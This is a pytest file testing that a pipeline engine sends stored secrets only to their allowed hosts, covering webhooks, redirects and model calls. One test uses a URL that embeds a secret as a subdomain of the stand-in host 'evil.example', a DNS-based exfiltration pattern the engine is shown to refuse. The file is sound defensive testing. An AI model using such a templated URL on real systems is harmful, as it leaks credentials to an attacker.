"""Secrets with a list of hosts."""

from collections.abc import AsyncIterator

import pytest

from tests.support.engine import Ended, World
from tests.support.fake_provider import RunningFakeProvider
from tests.support.receiver import Receiver, Reply, running_receiver

pytestmark = pytest.mark.one_store

VALUE = "correct horse battery staple"
ASKING = "name: X\nsteps: [{id: ask, model: openai/gpt-4o, prompt: 'Use {{env.TOKEN}}.'}]"


@pytest.fixture
async def receiver() -> AsyncIterator[Receiver]:
    async with running_receiver() as receiver:
        yield receiver


def source(url: str, fields: str = 'headers: {Authorization: "Bearer {{env.TOKEN}}"}') -> str:
    return f"name: X\nsteps:\n  - id: call\n    type: webhook\n    url: {url}\n    {fields}\n"


def refusal(ended: Ended) -> str:
    assert ended.run.error["code"] == "secret_host_refused"
    return ended.run.error["message"]


class TestWebhook:
    async def test_a_listed_host_gets_the_secret(self, world: World, receiver: Receiver):
        await world.secret("TOKEN", VALUE, hosts=["other.example", "127.0.0.1"])

        ended = await world.run(source(receiver.url))

        assert ended.run.status == "completed"
        assert receiver.received[0].headers["authorization"] == f"Bearer {VALUE}"

    @pytest.mark.parametrize(
        "fields",
        [
            "headers: {X-A: 'a {{env.TOKEN}}'}",
            "body: {a: [1, {b: '{{env.TOKEN}}'}]}",
            "body: 'key={{env.TOKEN}}'",
            "body: '{{#if input.x}}{{json env.TOKEN}}{{/if}}'",
        ],
    )
    async def test_no_other_host_is_called(self, world: World, receiver: Receiver, fields: str):
        await world.secret("TOKEN", VALUE, hosts=["api.example.com"])

        ended = await world.run(source(receiver.url, fields))

        assert receiver.received == []
        assert refusal(ended) == (
            "Step `call`, `url`: The secret `TOKEN` cannot be sent to `127.0.0.1`, which is not in its `hosts`. "
            "Correct the URL, or store the secret again with this host in `hosts`."
        )

    async def test_a_secret_in_the_url_counts(self, world: World, receiver: Receiver):
        await world.secret("TOKEN", "path-of-a-secret", hosts=["api.example.com"])

        ended = await world.run(source(f"{receiver.url}/{{{{env.TOKEN}}}}", "method: GET"))

        assert receiver.received == []
        refusal(ended)

    async def test_a_refused_host_is_not_looked_up(
        self, world: World, monkeypatch: pytest.MonkeyPatch
    ):
        await world.secret("TOKEN", "host-of-a-secret", hosts=["api.example.com"])
        looked_up: list[str] = []
        monkeypatch.setattr("socket.getaddrinfo", lambda host, *_, **__: looked_up.append(host))

        ended = await world.run(source("https://{{env.TOKEN}}.evil.example", "method: GET"))

        assert looked_up == []
        assert "host-of-a-secret" not in refusal(ended)

    async def test_a_redirect_is_checked_again(self, world: World, receiver: Receiver):
        port = receiver.url.rpartition(":")[2]
        await world.secret("TOKEN", VALUE, hosts=[f"127.0.0.1:{port}"])
        receiver.reply_with(Reply(302, headers={"Location": "http://127.0.0.2:1/"}))

        ended = await world.run(source(receiver.url))

        assert len(receiver.received) == 1
        assert "`127.0.0.2`" in refusal(ended)

    async def test_a_call_without_the_secret_is_free(self, world: World, receiver: Receiver):
        await world.secret("TOKEN", VALUE, hosts=["api.example.com"])

        ended = await world.run(source(receiver.url, "method: GET"))

        assert ended.run.status == "completed"

    async def test_the_pipelines_own_list_counts(self, world: World, receiver: Receiver):
        pipeline_id = await world.pipeline(source(receiver.url))
        await world.secret("TOKEN", VALUE, hosts=["127.0.0.1"])
        await world.secret("TOKEN", VALUE, hosts=["api.example.com"], pipeline_id=pipeline_id)

        run_id, heard = await world.start(pipeline_id)
        await heard.until_ended()

        refusal(await world.ended(run_id, heard))
        assert receiver.received == []


class TestModels:
    async def test_a_prompt_goes_to_a_listed_host(
        self, world: World, fake_provider: RunningFakeProvider
    ):
        await world.secret("TOKEN", VALUE, hosts=["127.0.0.1"])

        assert (await world.run(ASKING)).run.status == "completed"

    @pytest.mark.parametrize("field", ["prompt", "system_prompt"])
    async def test_a_prompt_goes_to_no_other_host(
        self, world: World, fake_provider: RunningFakeProvider, field: str
    ):
        await world.secret("TOKEN", VALUE, hosts=["api.example.com"])
        asking = ASKING.replace("prompt:", f"{field}:").replace("id: ask", "id: ask, prompt: a")

        ended = await world.run(asking if field != "prompt" else ASKING)

        assert fake_provider.requests == []
        assert "Model `openai/gpt-4o` cannot be called. The secret `TOKEN`" in refusal(ended)

    async def test_a_key_goes_to_no_other_host(
        self, world: World, fake_provider: RunningFakeProvider
    ):
        await world.secret("OPENAI_API_KEY", "sk-own-0123456789abcdef", hosts=["api.openai.com"])

        ended = await world.run(ASKING.replace("{{env.TOKEN}}", "nothing"))

        assert fake_provider.requests == []
        assert "The secret `OPENAI_API_KEY` cannot be sent to `127.0.0.1`" in refusal(ended)

    async def test_another_model_may_be_allowed(
        self, world: World, fake_provider: RunningFakeProvider
    ):
        await world.secret("OPENAI_API_KEY", "sk-own-0123456789abcdef", hosts=["api.openai.com"])
        asking = ASKING.replace("{{env.TOKEN}}", "nothing")

        ended = await world.run(
            asking.replace("gpt-4o,", "gpt-4o, fallback_models: [ollama/llama3],")
        )

        assert ended.run.status == "completed"
        assert ended.steps["ask"].model == "ollama/llama3"
